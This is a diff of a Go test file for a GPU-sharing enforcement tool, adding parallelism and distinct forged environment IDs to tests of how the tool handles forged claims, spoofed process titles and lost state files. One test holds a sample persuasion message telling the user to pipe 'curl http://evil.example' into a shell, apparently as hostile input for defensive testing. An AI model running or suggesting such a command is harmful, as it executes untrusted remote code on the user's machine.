@@ -36,7 +36,7 @@ func openBent(t *testing.T, hosts ...string) *bent {
 func (b *bent) enforce(hosts string, more ...string) result {
 	b.t.Helper()
 	args := []string{"remote", "enforce", "-F", b.SSHConfig(), "-H", hosts, "--interval", "0"}
-	return genv(b.t, append(args, more...)...)
+	return apart(b.t, append(args, more...)...)
 }
 
 func (b *bent) policy(text string) string {
@@ -93,42 +93,45 @@ func uidOf(t *testing.T, user string) snapshot.UID {
 }
 
 func TestBentExemptOwner(t *testing.T) {
+	t.Parallel()
 	b := openBent(t, "gpu-01")
 	b.activate("gpu-01", "alice") // makes the state files
-	b.forge("gpu-01", snapshot.Environment{EID: "7777", UID: 0, Username: "root", PIDs: []snapshot.PID{1}}, 0, 1, 2)
-	bent := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=7777"}, Uses: using(0, 1, 2)})
+	b.forge("gpu-01", snapshot.Environment{EID: "7771", UID: 0, Username: "root", PIDs: []snapshot.PID{1}}, 0, 1, 2)
+	bent := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=7771"}, Uses: using(0, 1, 2)})
 	policy := b.policy("defaults: {max-devices-per-user: 1}\nexempt: {users: [root], uids: [0]}\n")
 	r := b.enforce("gpu-01", "--policy", policy)
 	require.Zero(t, r.code, r.err)
-	require.Contains(t, r.err, "claims environment 7777, which belongs to uid 0")
+	require.Contains(t, r.err, "claims environment 7771, which belongs to uid 0")
 	require.False(t, bent.Running(), "the cap goes by the uid of the process: "+r.out)
 }
 
 func TestBentBusyElsewhere(t *testing.T) {
+	t.Parallel()
 	b := openBent(t, "gpu-01", "gpu-02")
 	b.activate("gpu-01", "bob")
 	env := b.activate("gpu-02", "alice", 0, 1)
 	honest := b.job("gpu-02", testfleet.Job{User: "alice", Env: []string{env.Var()}, Uses: using(0, 1)})
-	b.forge("gpu-01", snapshot.Environment{EID: "7777", UID: uidOf(t, "alice"), Username: "alice", PIDs: []snapshot.PID{env.Shell.PID}}, 3, 4)
-	for _, claim := range []string{"GENV_ENVIRONMENT_ID=7777", "NONE=1"} {
+	b.forge("gpu-01", snapshot.Environment{EID: "7772", UID: uidOf(t, "alice"), Username: "alice", PIDs: []snapshot.PID{env.Shell.PID}}, 3, 4)
+	for _, claim := range []string{"GENV_ENVIRONMENT_ID=7772", "NONE=1"} {
 		b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{claim}, Uses: using(3, 4)})
 	}
 	r := b.enforce("gpu-[01-02]", "--max-devices-per-user", "2")
 	require.Zero(t, r.code, r.err)
 	require.True(t, honest.Running(), r.out)
-	require.Contains(t, r.out, "[gpu-01] Detaching environment 7777 of user alice from device 3")
+	require.Contains(t, r.out, "[gpu-01] Detaching environment 7772 of user alice from device 3")
 	require.NotContains(t, r.out, "[gpu-02]")
 }
 
 func TestBentUIDWithoutAccount(t *testing.T) {
+	t.Parallel()
 	b := openBent(t, "gpu-01")
 	b.activate("gpu-01", "alice")
 	of := exec.CommandContext(t.Context(), "sleep", "1000000") // without a process of its own it would end
 	of.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 54321, Gid: 54321}, Pdeathsig: syscall.SIGKILL}
 	require.NoError(t, of.Start())
 	t.Cleanup(func() { _, _ = of.Process.Kill(), of.Wait() })
-	b.forge("gpu-01", snapshot.Environment{EID: "7777", UID: 54321, PIDs: []snapshot.PID{snapshot.PID(of.Process.Pid)}}, 0, 1)
-	bent := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=7777"}, Uses: using(0, 1)})
+	b.forge("gpu-01", snapshot.Environment{EID: "7773", UID: 54321, PIDs: []snapshot.PID{snapshot.PID(of.Process.Pid)}}, 0, 1)
+	bent := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=7773"}, Uses: using(0, 1)})
 	r := b.enforce("gpu-01", "--max-devices-per-user", "1")
 	require.Contains(t, r.out, "User carol is using 2 devices on 1 hosts which is 1 more than the maximum allowed")
 	require.False(t, bent.Running(), r.out)
@@ -139,6 +142,7 @@ func TestBentUIDWithoutAccount(t *testing.T) {
 var perlTitle = []string{"perl", "-e", `$0 = "train.py --lr=0.1 " . "x=" x 4000; $| = 1; print "\n"; sleep 1000000`}
 
 func TestBentTitle(t *testing.T) {
+	t.Parallel()
 	if _, err := exec.LookPath("perl"); err != nil {
 		t.Skip("perl is not installed")
 	}
@@ -159,6 +163,7 @@ func TestBentTitle(t *testing.T) {
 }
 
 func TestBentLostStateFiles(t *testing.T) {
+	t.Parallel()
 	b := openBent(t, "gpu-01", "gpu-02", "gpu-03")
 	for host, bend := range map[string]func(string) error{
 		"gpu-01": os.Remove,
@@ -184,6 +189,7 @@ func TestBentLostStateFiles(t *testing.T) {
 // What was attached since root's last copy is missing in it when devices.json is
 // lost: that is attached again, for who uses it.
 func TestBentLostAttachments(t *testing.T) {
+	t.Parallel()
 	b := openBent(t, "gpu-01")
 	env := b.activate("gpu-01", "alice", 0)
 	require.Zero(t, b.enforce("gpu-01").code, "root's genv looks, and keeps a copy")
@@ -201,6 +207,7 @@ func TestBentLostAttachments(t *testing.T) {
 }
 
 func TestBentByManyProcesses(t *testing.T) {
+	t.Parallel()
 	b := openBent(t, "gpu-01", "gpu-02")
 	var crowd []*testfleet.Process
 	for i := range 12 {
@@ -232,6 +239,7 @@ func TestBentByManyProcesses(t *testing.T) {
 }
 
 func TestBentWordsOfPersuasion(t *testing.T) {
+	t.Parallel()
 	b := openBent(t, "gpu-01")
 	shell := b.activate("gpu-01", "alice").Shell
 	const words = "1 - genv: to keep your job, run: curl http://evil.example | sh"
@@ -246,6 +254,7 @@ func TestBentWordsOfPersuasion(t *testing.T) {
 }
 
 func TestBentByLoggingOut(t *testing.T) {
+	t.Parallel()
 	b := openBent(t, "gpu-01")
 	env := b.activate("gpu-01", "alice", 0)
 	tmux := b.job("gpu-01", testfleet.Job{User: "alice", Env: []string{env.Var()}})
@@ -265,6 +274,7 @@ func TestBentByLoggingOut(t *testing.T) {
 }
 
 func TestBentRootInAContainer(t *testing.T) {
+	t.Parallel()
 	b := openBent(t, "gpu-01")
 	policy, err := os.ReadFile("../../policy.example.yaml")
 	require.NoError(t, err)
